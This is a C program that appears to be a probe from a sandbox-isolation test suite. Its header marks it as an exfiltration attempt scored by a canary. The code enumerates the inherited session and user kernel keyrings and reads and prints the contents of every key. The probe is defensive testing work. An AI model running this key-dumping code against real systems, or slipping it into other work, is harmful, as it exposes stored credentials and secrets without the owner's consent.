/*
 * family: injection
 * tries: read the kernel keyrings the job inherited (session, user, user-session): list each keyring's keys (KEYCTL_READ), describe and read every key, print them
 * source: https://docs.docker.com/engine/security/seccomp/
 * exfil: yes
 * stopped-when: canary-unread
 * attempted-when: marker
 *
 * Keyrings are not fully namespaced: a session keyring crosses fork,
 * exec and new namespaces unless the sandbox leaves it. Bound: 64
 * keys per keyring, 4 KiB per key.
 */
#include <errno.h>
#include <linux/keyctl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static long
keyctl(long op, long a, long b, long c)
{
	return syscall(SYS_keyctl, op, a, b, c, 0L);
}

int
main(int argc, char **argv)
{
	static const long rings[] = {KEY_SPEC_SESSION_KEYRING,
	    KEY_SPEC_USER_KEYRING, KEY_SPEC_USER_SESSION_KEYRING};
	int32_t ids[64];
	char desc[256], data[4097];
	long n, m;

	if (argc < 9) {
		fprintf(stderr,
		    "usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES\n");
		return 2;
	}
	fprintf(stderr, "ATTEMPTED %s\n", argv[1]);
	for (size_t r = 0; r < sizeof(rings) / sizeof(rings[0]); r++) {
		if ((n = keyctl(KEYCTL_READ, rings[r], (long)ids,
			 sizeof(ids))) < 0) {
			printf("keyring %ld: %s\n", rings[r], strerror(errno));
			continue;
		}
		n /= (long)sizeof(ids[0]);
		for (long i = 0; i < n && i < 64; i++) {
			if (keyctl(KEYCTL_DESCRIBE, ids[i], (long)desc,
				sizeof(desc)) < 0)
				snprintf(desc, sizeof(desc), "? (%s)",
				    strerror(errno));
			desc[sizeof(desc) - 1] = '\0';
			if ((m = keyctl(KEYCTL_READ, ids[i], (long)data,
				 sizeof(data) - 1)) < 0) {
				printf("key %d %s: %s\n", ids[i], desc,
				    strerror(errno));
				continue;
			}
			data[m < (long)sizeof(data) - 1
				? m
				: (long)sizeof(data) - 1] = '\0';
			printf("key %d %s: %s\n", ids[i], desc, data);
		}
	}
	return 0;
}
